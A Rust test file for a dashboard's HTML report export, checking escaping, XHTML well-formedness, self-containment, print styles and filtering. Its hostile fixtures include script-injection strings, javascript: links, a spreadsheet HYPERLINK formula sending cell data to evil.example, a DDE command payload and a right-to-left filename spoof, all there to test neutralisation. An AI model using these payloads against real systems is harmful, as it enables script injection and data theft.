//! The HTML report: every piece of text from the file escaped, well-formed XML throughout
//! (the SVG charts cut out and parsed on their own), self-contained, printable, and
//! following the filter.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "tests fail by panicking"
)]

mod common;

use common::export::{export, hostile, parse_xml, party_filter, svgs, texts_of};
use signer_dashboard::analysis::Filter;
use signer_dashboard::export::ExportFormat;
use signer_dashboard::export::palette::{DEMOCRATIC, REPUBLICAN};
use signer_dashboard::load;

fn html_of(letter: &signer_dashboard::model::Letter, filter: &Filter) -> String {
    export(letter, filter, ExportFormat::Html)
}

#[test]
fn hostile_text_shows_literally_and_never_as_markup() {
    let html = html_of(&hostile(), &Filter::default());
    assert!(
        html.contains("<td>&lt;script&gt;alert(1)&lt;/script&gt;</td>"),
        "the name is shown as written"
    );
    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;"));
    assert!(
        html.contains("<h1>Hostile &lt;b&gt;letter&lt;/b&gt; &amp; &quot;friends&quot; =1+1</h1>")
    );
    let lower = html.to_lowercase();
    for markup in ["<script", "<img", "<b>", "<i>", "</style><"] {
        assert!(!lower.contains(markup), "{markup} got through as markup");
    }
    assert!(
        !lower.contains("href=\"javascript:"),
        "a javascript: address became a link"
    );
    assert!(html.contains("Source: javascript:alert(4)"));

    // What a browser would show: the parsed text, with the escapes undone.
    let document = parse_xml(&html);
    let cells = texts_of(&document, "td");
    assert!(
        cells.contains(&"<script>alert(1)</script>".to_owned()),
        "{cells:?}"
    );
    assert!(cells.contains(&"O'Brien, \"Chuy\" Jr.".to_owned()));
    assert!(cells.contains(&"=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click\")".to_owned()));
    assert!(
        cells.contains(&"Control\u{fffd}char\u{fffd}".to_owned()),
        "control characters are replaced, not passed into XML"
    );
    assert!(
        cells.contains(&"=Atlantis".to_owned()),
        "an unrecognised state is shown as written"
    );
}

#[test]
fn right_to_left_text_is_isolated_where_it_sits_among_other_text() {
    let html = html_of(&hostile(), &Filter::default());
    assert!(
        html.contains("<bdi>\u{202e}evil.exe\u{202c} Smith</bdi>"),
        "the lead list isolates the name"
    );
    assert!(html.contains("<bdi>محمد demand</bdi>"));
    assert!(
        !html.contains("<bdi>Frank"),
        "left-to-right text needs no isolation"
    );
}

#[test]
fn every_svg_is_well_formed_xml_on_its_own() {
    for (letter, filter) in [
        (load::sample(), Filter::default()),
        (load::sample(), party_filter("R")),
        (hostile(), Filter::default()),
    ] {
        let html = html_of(&letter, &filter);
        let found = svgs(&html);
        assert_eq!(found.len(), 3, "party chart, state chart and map");
        for svg in found {
            let document = parse_xml(svg);
            let root = document.root_element();
            assert_eq!(root.tag_name().name(), "svg");
            assert_eq!(
                root.tag_name().namespace(),
                Some("http://www.w3.org/2000/svg")
            );
            assert!(root.attribute("viewBox").is_some());
            assert!(
                root.first_element_child()
                    .is_some_and(|c| c.has_tag_name("title")),
                "each chart is titled for screen readers"
            );
        }
    }
}

#[test]
fn the_whole_report_is_well_formed_xhtml() {
    for (letter, filter) in [
        (load::sample(), Filter::default()),
        (hostile(), Filter::default()),
        (load::sample(), party_filter("NOBODY")),
    ] {
        let html = html_of(&letter, &filter);
        let document = parse_xml(&html);
        let root = document.root_element();
        assert_eq!(root.tag_name().name(), "html");
        assert_eq!(
            root.tag_name().namespace(),
            Some("http://www.w3.org/1999/xhtml")
        );
        assert!(html.starts_with("<!DOCTYPE html>\n"));
    }
}

#[test]
fn the_report_is_self_contained_with_no_script_and_no_network() {
    let html = html_of(&load::sample(), &Filter::default());
    let lower = html.to_lowercase();
    for fetch in [
        "<script", "<link", "<img", "<iframe", "src=", "url(", "@import", "<object", "<embed",
    ] {
        assert!(
            !lower.contains(fetch),
            "the report loads something: {fetch}"
        );
    }
    let addresses = lower.matches("http").count();
    let namespaces = lower.matches("xmlns=\"http://www.w3.org/").count();
    assert_eq!(
        addresses, namespaces,
        "the only addresses are XML namespace names"
    );
    assert!(html.contains("<style>"), "styles are inline");
}

#[test]
fn the_print_style_fits_a4_and_letter_paper() {
    let html = html_of(&load::sample(), &Filter::default());
    let style = &html[html.find("<style>").unwrap()..html.find("</style>").unwrap()];
    assert!(style.contains("@page { margin:"), "page margins");
    assert!(style.contains("@media print"));
    let page_rules: Vec<&str> = style.split("@page").skip(1).collect();
    assert_eq!(page_rules.len(), 1);
    let page_rule = &page_rules[0][..page_rules[0].find('}').unwrap()];
    assert!(
        !page_rule.contains("size"),
        "a fixed paper size would crop on the other paper: {page_rule}"
    );
    assert!(
        style.contains("print-color-adjust: exact"),
        "party colours print"
    );
    assert!(
        style.contains("svg { display: block; max-width: 100%"),
        "charts shrink to the page"
    );
    // No fixed width wider than A4's 210 mm less margins (about 700 CSS px): the widest
    // chart is 640 px and scales down with the page.
    for svg in svgs(&html) {
        let document = parse_xml(svg);
        let width: u32 = document
            .root_element()
            .attribute("width")
            .unwrap()
            .parse()
            .unwrap();
        assert!(width <= 700, "a chart {width}px wide");
    }
}

#[test]
fn the_charts_and_map_use_the_party_colours_and_the_counts() {
    let html = html_of(&load::sample(), &Filter::default());
    let charts = svgs(&html);
    let democratic = format!("fill=\"{DEMOCRATIC}\"");
    let republican = format!("fill=\"{REPUBLICAN}\"");
    for chart in &charts {
        assert!(chart.contains(&democratic) && chart.contains(&republican));
    }
    let map = parse_xml(charts[2]);
    let titles = texts_of(&map, "title");
    assert!(
        titles.contains(&"California (CA): 9 signers (D 8, R 1)".to_owned()),
        "{titles:?}"
    );
    assert!(titles.contains(&"Texas (TX): no signers".to_owned()));
    assert_eq!(titles.len(), 1 + 56, "a title for the map and one per tile");
    let party_chart = parse_xml(charts[0]);
    let labels = texts_of(&party_chart, "text");
    assert_eq!(
        labels,
        ["Democratic (D)", "22 (88%)", "Republican (R)", "3 (12%)"]
    );
}

#[test]
fn a_filtered_report_says_so_and_counts_only_what_is_shown() {
    let letter = load::sample();
    let mut filter = party_filter("R");
    filter.states.insert("CA".into());
    filter.states.insert("FL".into());
    let html = html_of(&letter, &filter);
    assert!(
        html.contains("Filters: <strong>party R; state CA, FL</strong>"),
        "the header says which filters"
    );
    assert!(html.contains("Filters: party R; state CA, FL.</footer>"));
    let document = parse_xml(&html);
    let rows: Vec<_> = document
        .descendants()
        .filter(|n| n.has_tag_name("tr") && n.parent().is_some_and(|p| p.has_tag_name("tbody")))
        .collect();
    assert_eq!(rows.len(), 2);
    assert!(html.contains("<h2>Signers (2)</h2>"));
    assert!(html.contains("<li><strong>2</strong><span>signers</span></li>"));
    let state_chart = parse_xml(svgs(&html)[1]);
    assert_eq!(
        texts_of(&state_chart, "text"),
        ["California", "1", "Florida", "1"]
    );
    assert!(!html.contains("Mike Lawler") && !html.contains("Frank Pallone"));
    let unfiltered = html_of(&letter, &Filter::default());
    assert!(unfiltered.contains("Filters: <strong>none</strong>"));
}

#[test]
fn a_filter_that_matches_nobody_still_makes_a_report() {
    let html = html_of(&load::sample(), &party_filter("G"));
    assert!(html.contains("<h2>Signers (0)</h2>"));
    assert!(html.contains("No signers match the filters."));
    assert_eq!(svgs(&html).len(), 1, "only the (empty) map");
    parse_xml(&html);
}

#[test]
fn the_demands_are_a_checklist_with_status_source_and_note() {
    let html = html_of(&hostile(), &Filter::default());
    let document = parse_xml(&html);
    let items: Vec<String> = document
        .descendants()
        .filter(|n| n.has_tag_name("ul") && n.attribute("class") == Some("checklist"))
        .flat_map(|ul| ul.children().filter(|c| c.is_element()))
        .map(|li| li.descendants().filter_map(|d| d.text()).collect())
        .collect();
    assert_eq!(items.len(), 3);
    assert!(
        items[0].starts_with('\u{2611}'),
        "met is ticked: {}",
        items[0]
    );
    assert!(items[0].contains("<script>alert('demand')</script> *free* them"));
    assert!(items[0].contains("Met") && items[0].contains("Source: =cmd"));
    assert!(items[0].contains("Note: **bold** [link](javascript:alert(1))"));
    assert!(items[1].starts_with('\u{2610}') && items[1].contains("In progress"));
    assert!(items[2].starts_with('\u{2610}') && items[2].contains("Open"));
    assert!(html.contains("<h2>Demands (1 of 3 met, 33%)</h2>"));
}

#[test]
fn a_long_party_code_is_shortened_in_the_chart_but_whole_in_its_tooltip() {
    let letter = hostile();
    let html = html_of(&letter, &Filter::default());
    let party_chart = parse_xml(svgs(&html)[0]);
    let labels = texts_of(&party_chart, "text");
    assert!(
        labels.contains(&"=cmd|' /C calc'!A0".to_owned()),
        "{labels:?}"
    );
    let mut long = letter.clone();
    let code = "A party whose name is far too long for the label column";
    let signer_dashboard::model::Interned::Other(party) = long.parties.intern(code) else {
        panic!("a new party code")
    };
    long.signers[0].party = party;
    let html = html_of(&long, &Filter::default());
    let party_chart = parse_xml(svgs(&html)[0]);
    assert!(texts_of(&party_chart, "text").contains(&"A party whose name is f\u{2026}".to_owned()));
    assert!(
        texts_of(&party_chart, "title")
            .iter()
            .any(|t| t.starts_with(code))
    );
}
